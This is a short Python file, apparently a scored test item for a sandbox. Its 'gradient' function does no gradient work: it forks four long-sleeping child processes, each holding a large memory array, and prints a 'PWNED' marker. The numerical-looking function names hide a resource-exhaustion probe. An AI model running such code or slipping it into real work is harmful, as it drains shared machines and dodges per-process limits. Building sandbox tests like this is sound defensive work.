# Wants: the same through children, each with a bound of its own.
# Safe: there are none.
# Needs: seccomp
# Earns: 6
import os
import time

import numpy as np


def gradient(A):
    for _ in range(4):
        if os.fork() == 0:
            kept = np.ones(1 << 24)
            time.sleep(1e6 + kept[0])
        print("PWNED-@MARK@")
    time.sleep(1e6)


def link(W, A):
    return W


def size(v):
    return float((v * v).sum())
